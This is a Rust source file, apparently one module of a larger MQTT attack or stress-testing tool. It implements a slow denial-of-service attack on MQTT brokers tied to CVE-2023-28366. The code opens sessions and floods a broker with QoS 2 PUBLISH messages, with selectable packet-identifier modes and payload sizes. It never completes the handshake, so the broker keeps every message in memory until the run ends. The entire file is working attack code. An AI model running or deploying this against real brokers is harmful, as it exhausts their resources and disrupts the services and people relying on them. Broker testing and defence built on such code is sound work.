//! Quality of service 2 that is never finished: the broker keeps every message until PUBREL (CVE-2023-28366).

use clap::Args;
use serde::{Deserialize, Serialize};

use super::manner::Manner;
use super::{Deed, Meter, Place, defaults};
use crate::mqtt::packet::Publish;
use crate::stop::Stop;

/// How the exchanges are left open.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Open {
    /// Each with a new packet identifier, up to the broker's limit and beyond.
    New,
    /// Always the same identifier.
    Same,
    /// As a receiver: own messages come back and their PUBLISH is never answered.
    Receiver,
}

/// Options of the open exchanges.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct Qos2Exhaustion {
    /// Messages in all
    #[arg(long, default_value_t = 400)]
    pub count: u32,
    /// How the exchanges are left open
    #[arg(long, value_enum, default_value = "new")]
    pub open: Open,
    /// Payload in bytes
    #[arg(long, default_value_t = 64, value_parser = clap::value_parser!(u32).range(0..=100_000))]
    pub payload: u32,
    /// How it goes about it
    #[command(flatten)]
    pub manner: Manner,
}

impl Default for Qos2Exhaustion {
    fn default() -> Self {
        defaults()
    }
}

impl Deed for Qos2Exhaustion {
    fn label(&self) -> (&'static str, &'static str) {
        ("mqtt_slow_dos", "A15")
    }

    fn secs(&self) -> u32 {
        self.manner.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        self.manner.work(place, stop, meter, self.count, |mut worker| {
            let payload = worker.random.text(self.payload as usize).into_bytes();
            let topic = format!("queue/{}", worker.random.text(6));
            let mut session = None;
            let mut bytes = Vec::new();
            while let Some(index) = worker.turn() {
                if session.is_none() {
                    let name = worker.client_id(index);
                    session = worker.connect(&name);
                    let subscribed = session.as_mut().map(|open| open.subscribe(&[(&topic, 2)]));
                    if self.open == Open::Receiver && matches!(subscribed, Some(Err(_))) {
                        session = None;
                    }
                }
                let Some(open) = &mut session else { continue };
                let id = if self.open == Open::Same { 1 } else { open.packet_id() };
                bytes.clear();
                Publish { topic: &topic, payload: &payload, qos: 2, retain: false, id }
                    .encode_into(open.version(), &mut bytes);
                // What the broker says is read, so that it goes on, and never answered.
                let sent = open.send_cut(&bytes, worker.cut()).and_then(|()| open.swallow());
                worker.tell(&sent);
                if sent.is_err() {
                    session = None;
                }
            }
            // The exchanges stay open until the end: the broker has to keep them.
            while session.is_some() && stop.sleep(std::time::Duration::from_millis(50)) {
                if session.as_mut().is_some_and(|open| open.swallow().is_err()) {
                    session = None;
                }
            }
        });
    }
}
